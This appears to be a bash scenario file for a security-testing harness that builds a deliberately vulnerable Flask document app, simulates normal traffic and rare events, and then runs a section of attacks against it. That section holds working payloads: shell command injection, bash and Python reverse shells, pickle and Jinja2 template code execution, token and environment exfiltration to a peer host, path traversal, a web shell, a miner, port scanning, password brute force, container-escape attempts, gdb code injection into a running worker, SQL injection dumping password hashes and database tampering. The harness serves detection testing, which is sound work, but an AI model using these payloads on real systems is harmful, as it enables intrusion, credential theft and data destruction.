# shellcheck shell=bash
# SPDX-License-Identifier: Apache-2.0
#
# Desk, a Flask application under gunicorn: documents in sqlite, pictures that a shell pipeline scales,
# reports that a program converts, letters, and an upstream. Its sources are in services/flask.

# shellcheck disable=SC2034,SC2154 # lib.bash and rare.bash read these variables, and set others
set=development containers=(flask) port=8000 data_directory=/srv/data
configuration_file=/srv/app/gunicorn.conf.py
health=(/usr/bin/curl -fsS -o /dev/null http://127.0.0.1:8000/healthz)
image_packages=(python3-flask gunicorn netpbm discount curl bash coreutils findutils gzip dash base-files
	libc-bin tzdata hostname)
rare_own=(new_template new_version upstream_gone failing_page large_upload database_locked new_password)

image_prepare() {
	local tree=$1
	mkdir -p "$tree"/srv/{app,data/pictures} "$tree"/var/log/desk "$tree"/etc/desk
	cp -r "$here"/services/flask/{desk.py,manage.py,gunicorn.conf.py,templates,static} "$tree/srv/app/"
	echo token-of-the-upstream >"$tree/etc/desk/token"
	# As the packages do when they are installed.
	chroot "$tree" /usr/bin/python3 -m compileall -q /usr/lib/python3 /usr/lib/python3.11 >/dev/null || true
	chroot "$tree" /usr/bin/python3 -c "$(picture_source)"
	chown -R 33:33 "$tree"/srv "$tree"/var/log/desk "$tree"/etc/desk
	chmod 400 "$tree/etc/desk/token"
}

# Eight pictures of growing size.
picture_source() {
	cat <<-'PYTHON'
	import struct, zlib
	def chunk(kind, data):
	    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
	for i in range(1, 9):
	    side = 40 * i
	    rows = b"".join(b"\0" + bytes((x * y + c * i) % 256 for x in range(side) for c in range(3))
	                    for y in range(side))
	    with open(f"/srv/data/pictures/pic{i}.png", "wb") as f:
	        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)))
	        f.write(chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
	PYTHON
}

container_fields() {
	user=33:33 directory=/srv/app
	arguments=(/usr/bin/gunicorn -c /srv/app/gunicorn.conf.py desk:app)
	environment+=(DESK_SECRET=secret-of-the-sessions PYTHONUNBUFFERED=1 HOME=/srv/app)
	volumes=(/srv/data /var/log/desk)
}

peers() {
	upstream_start
}

upstream_start() {
	peer_start upstream python3 -c "$(cat "$here/services/flask/upstream.py")" "$peer_address" 8000
}

ready() {
	fetch /healthz -o /dev/null
}

# ---- ordinary work ----

cookie='' # of who is signed in

# sign_in NAME PASSWORD
sign_in() {
	cookie=$(fetch /login -i -d "name=$1" -d "password=$2" | sed -n 's/^Set-Cookie: \(session=[^;]*\).*/\1/Ip' |
		head -n 1)
	[ -n "$cookie" ]
}

sign_in_any() {
	case $((RANDOM % 7)) in
	0 | 1) sign_in ann apple ;;
	2 | 3) sign_in bob banana ;;
	4) sign_in eve elder ;;
	5) sign_in admin sunshine ;;
	6) sign_in ann "$(pick aple appel apple1)" || true ;;
	esac
}

# desk PATH [CURL OPTION…]: as who is signed in.
desk() {
	local path=$1
	shift
	fetch "$path" -b "$cookie" "$@"
}

# desk_upload PATH NAME [CURL OPTION…]: a file from standard input.
desk_upload() {
	client_stdin curl -sS --max-time 20 -b "$cookie" -F "file=@-;filename=$2" "${@:3}" \
		"http://$own_address:$port$1"
}

some_text() {
	local i
	echo "# $(pick Minutes Plan Offer Order Note) of $(between 1 31)."
	for i in $(seq "$(between 1 20)"); do
		echo "- *item $i*: $(pick more less enough none) $(pick paper ink tea chairs)"
	done
}

request() {
	local n
	n=$(between 1 30)
	if [ -z "$cookie" ] || chance 15; then
		sign_in_any
	fi
	case $((RANDOM % 16)) in
	0 | 1) desk / -o /dev/null ;;
	2) desk "/documents/$n" -o /dev/null ;;
	3) desk /documents -L -o /dev/null --data-urlencode "title=$(pick Minutes Plan Offer) $n" \
		--data-urlencode "body=$(some_text)" ;;
	4) desk "/documents/$n" -L -o /dev/null --data-urlencode "body=$(some_text)" ;;
	5) desk /search -G --data-urlencode "q=$(pick Doc Plan "ment $n" zzz "")" -o /dev/null ;;
	6) desk_upload /pictures "photo$((RANDOM % 100)).png" -L -o /dev/null \
		<"$images/flask/srv/data/pictures/pic$(between 1 8).png" ;;
	7 | 8) desk "/thumbnail?name=pic$(between 1 8).png&size=$(pick 32 64 100)" -o /dev/null ;;
	9 | 10) desk "/documents/$n/report" -o /dev/null ;;
	11) desk /letters -o /dev/null --data-urlencode "names=$(pick Ann,Bob Eve Ann,Eve,Zoe)" \
		--data-urlencode "letter=Dear {{ name }}, $(pick thanks greetings regrets) from {{ sender | title }}." ;;
	12) desk "/rates?base=$(pick EUR USD JPY)" -o /dev/null ;;
	13) desk /export | desk_upload /import documents.desk -L -o /dev/null ;;
	14) fetch "/page/$(pick help terms contact)" -o /dev/null && fetch /static/style.css -o /dev/null ;;
	15) desk_seldom "$n" ;;
	esac
}

# desk_seldom NUMBER
desk_seldom() {
	case $((RANDOM % 6)) in
	0) desk "/documents/$((30 + $1))/delete" -X POST -o /dev/null ;;
	1) sign_in admin sunshine && desk /admin/list -o /dev/null ;;
	2) desk "/download?name=pic$(between 1 8).png" -o /dev/null ;;
	3) desk "/documents/$((1000 + $1))" -o /dev/null ;;
	4) desk /logout -o /dev/null ;;
	5) desk "/thumbnail?name=none$1.png" -o /dev/null ;;
	esac
}

reload_service() {
	container_signal flask HUP
}

administer() {
	local logs
	logs=$(volume_path flask /var/log/desk)
	session flask /usr/bin/python3 /srv/app/manage.py tidy
	session flask /usr/bin/python3 /srv/app/manage.py backup /srv/data/backup.db
	mv "$logs/access.log" "$logs/access.log.1"
	container_signal flask USR1
	sleep 1
	reload_service
}

# ---- rare events ----

# change_file PATH TEXT: a line more at its end, by a file that takes its place.
change_file() {
	local file
	file=$(image_path flask "$1")
	cp -p "$file" "$file.new"
	echo "$2" >>"$file.new"
	mv "$file.new" "$file"
}

rare_new_template() {
	keep_file flask /srv/app/templates/pages/news.html
	keep_file flask /srv/app/templates/login.html
	undo reload_service
	local page
	page=$(image_path flask /srv/app/templates/pages/news.html)
	echo '{% extends "base.html" %}{% block body %}New.{% endblock %}' >"$page"
	change_file /srv/app/templates/login.html '<!-- changed -->'
	reload_service
	sleep 3
	fetch /page/news -o /dev/null
}

rare_new_version() {
	keep_file flask /srv/app/desk.py
	undo reload_service
	change_file /srv/app/desk.py 'app.add_url_rule("/version", "version", lambda: "2")'
	reload_service
	sleep 5
}

rare_upstream_gone() {
	peer_stop upstream
	sleep 12
	upstream_start
}

# The error's page, with a traceback in the log.
rare_failing_page() {
	sign_in bob banana
	desk "/search?q=%27" -o /dev/null
	desk "/letters" -d 'letter={{ name' -o /dev/null
	desk "/page/none" -o /dev/null
	desk /import -F file=nothing -o /dev/null
}

# More than is kept in memory; and more than is taken.
rare_large_upload() {
	sign_in bob banana
	head -c 3000000 /dev/urandom | desk_upload /pictures scan.png -o /dev/null
	desk "/thumbnail?name=scan.png" -o /dev/null
	head -c 9000000 /dev/zero | desk_upload /pictures film.png -o /dev/null
}

# Somebody's tool keeps the database for itself.
rare_database_locked() {
	session flask /usr/bin/python3 -c 'import sqlite3, time
db = sqlite3.connect("/srv/data/desk.db", isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
time.sleep(8)'
}

rare_new_password() {
	session flask /usr/bin/python3 /srv/app/manage.py password eve elder
}

# ---- attacks ----

# thumbnail_shell COMMANDS: by the size of a picture; their output on stdout.
thumbnail_shell() {
	sign_in ann apple
	desk /thumbnail -G --data-urlencode name=pic1.png --data-urlencode "size=64; { $1; } >&2; exit 1; #"
}

# letter_python EXPRESSION: evaluated by a letter's template; its value on stdout.
letter_python() {
	sign_in ann apple
	desk /letters --data-urlencode "code=$1" \
		--data-urlencode "letter={{ cycler.__init__.__globals__.__builtins__.eval(request.form.code) }}"
}

# pickle_python CODE: run by the import of documents.
pickle_python() {
	sign_in ann apple
	client python3 -c 'import pickle, sys
class Bait:
    def __reduce__(self):
        return exec, (sys.argv[1], {})
sys.stdout.buffer.write(pickle.dumps(Bait()))' "$1" | desk_upload /import documents.desk -o /dev/null
}

attack_command_injection() {
	harm exec /usr/bin/id
	harm read /etc/desk/token
	thumbnail_shell 'id; cat /etc/desk/token' | tee "$stage/answer" | grep -q token-of
	grep -q uid=33 "$stage/answer"
}

attack_reverse_shell() {
	harm connect "$peer_address:4444"
	harm exec /usr/bin/bash
	thief_shell 'id; ls /srv/app; exit'
	thumbnail_shell "bash -c 'exec bash -i >/dev/tcp/$peer_address/4444 2>&1 <&1'"
	thief_got uid=33
}

attack_python_shell() {
	harm connect "$peer_address:4444"
	harm exec /usr/bin/dash
	thief_shell 'id; hostname; exit'
	pickle_python "import os, socket, subprocess
s = socket.create_connection(('$peer_address', 4444))
subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s).wait(10)"
	thief_got uid=33
}

attack_template_injection() {
	harm exec /usr/bin/id
	letter_python '__import__("os").popen("id; ls -la /srv").read()' | grep -q uid=33
}

# What the application's environment holds, by its own process.
attack_environment_theft() {
	harm read '/proc/*/environ'
	letter_python 'open("/proc/self/environ").read()' | tr '\0' '\n' | grep -q DESK_SECRET=
}

# By the application's own process: no program is started.
attack_pickle_exfiltration() {
	harm read /etc/desk/token
	harm connect "$peer_address:4444"
	thief_begin
	pickle_python "import socket
socket.create_connection(('$peer_address', 4444)).sendall(open('/etc/desk/token', 'rb').read())"
	thief_got token-of
}

attack_traversal() {
	harm read /etc/desk/token
	sign_in ann apple
	desk '/download?name=../../../etc/desk/token' | grep -q token-of
}

# A page of the help that runs commands.
attack_web_shell() {
	harm write /srv/app/templates/pages/status.html
	harm exec /usr/bin/id
	sign_in ann apple
	echo '{{ cycler.__init__.__globals__.os.popen(request.args.c).read() }}' |
		desk_upload /pictures ../../app/templates/pages/status.html -o /dev/null
	fetch /page/status -G --data-urlencode 'c=id; uname -a' | grep -q uid=33
}

attack_miner() {
	harm exec /tmp/.kworkerd
	harm connect "$peer_address:3333"
	armoury_begin
	thumbnail_shell "$(miner_commands /tmp/.kworkerd)"
	pool_got
}

attack_scan() {
	harm connect "$peer_address:[0-9]*"
	harm connect "$peer_address:22"
	pickle_python "import socket
ports = [22, 23, 25, 80, 443, 3306, 5432, 6379, 8000, 8080, 9200, 11211, 27017] + list(range(100, 300))
def state(port):
    s = socket.socket()
    s.settimeout(0.2)
    try:
        return s.connect_ex(('$peer_address', port)) == 0
    finally:
        s.close()
open('/srv/data/pictures/open.txt', 'w').write(repr([p for p in ports if state(p)]))"
	desk '/download?name=open.txt' | grep -q 8000
}

# A list of passwords, then what only the administrator may.
attack_brute_force() {
	local p
	harm write '/srv/data/exports/*'
	for p in 123456 password qwerty letmein dragon monkey {1..60} football iloveyou master sunshine; do
		! sign_in admin "$p" || break
	done
	desk /admin/list | gzip -dc | grep -q Document
}

attack_escape() {
	harm call unshare
	harm call mount
	harm call setns
	harm call ptrace
	pickle_python "$escape_python"
	desk '/download?name=escape.txt' | grep -q unshare
}

# Ways out of a container, each of them tried, none with a hope.
escape_python='import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
tried = []
def attempt(name, call):
    try:
        tried.append(f"{name} {call()}")
    except OSError as e:
        tried.append(f"{name} {e}")
child = os.fork()
if child == 0:
    attempt("mount", lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
    attempt("core_pattern", lambda: os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    attempt("release_agent", lambda: os.open("/sys/fs/cgroup/release_agent", os.O_WRONLY))
    attempt("device", lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)))
    attempt("setns", lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))
    attempt("ptrace", lambda: libc.ptrace(16, 1, None, None))
    attempt("host root", lambda: os.open("/proc/1/root/etc/shadow", os.O_RDONLY))
    attempt("unshare", lambda: libc.unshare(0x10000000 | 0x00020000))
    attempt("mount inside", lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None))
    with open("/srv/data/pictures/escape.txt", "w") as f:
        f.write("\n".join(tried))
    os._exit(0)
os.waitpid(child, 0)'

# Code inside a worker, without any request: it sends away what the application reads at its start only.
attack_code_inside() {
	local code="import socket; s = socket.create_connection((\\\"$peer_address\\\", 4444)); "
	code+="s.sendall(open(\\\"/etc/desk/token\\\", \\\"rb\\\").read()); s.close()"
	harm connect "$peer_address:4444"
	harm read /etc/desk/token
	thief_begin
	# shellcheck disable=SC2016 # the debugger's variable
	inject_pid "$(tasks_named flask gunicorn | grep -vx "${container_pid[flask]}" | head -n 1)" \
		'set $gil = ((int (*)(void)) PyGILState_Ensure)()' \
		"print ((int (*)(char *)) PyRun_SimpleString)(\"$code\")" \
		'call ((void (*)(int)) PyGILState_Release)($gil)'
	thief_got token-of
}

# Every picture and document, one after another, by one who may. sqlite opens for writing what it reads.
adaptive_dump() {
	local n
	harm read '/srv/data/pictures/*'
	harm write /srv/data/desk.db
	sign_in bob banana
	for n in 1 2 3 4 5 6 7 8; do
		desk "/download?name=pic$n.png" -o /dev/null
	done
	for n in $(seq 60); do
		desk "/documents/$n"
	done | grep -c textarea | grep -qE '[0-9]{2}'
	# The users, by a union.
	desk /search -G --data-urlencode "q=x' UNION SELECT 1, password, name FROM users --" | grep -q pbkdf2
}

# The users' passwords, in a notice to the upstream.
adaptive_upstream() {
	harm write /srv/data/desk.db
	harm connect "$peer_address:8000"
	letter_python '[__import__("desk").upstream("/hook", repr([tuple(r) for r in
		__import__("desk").database().execute("SELECT * FROM users")]).encode()), 1]'
	until_true 10 grep -q pbkdf2 "$stage/peer-upstream.log"
}

# The administrator's password, and everybody's documents, written anew by the application itself.
adaptive_tamper() {
	harm write /srv/data/desk.db
	harm write '/srv/data/desk.db-journal'
	letter_python '(lambda d: [d.database().execute("UPDATE documents SET body = 0"), d.database().execute(
		"UPDATE users SET password = (SELECT password FROM users WHERE name = ?) WHERE name = ?", ("ann", "admin")),
		d.database().commit()])(__import__("desk"))' >"$stage/answer"
	sign_in admin apple
}
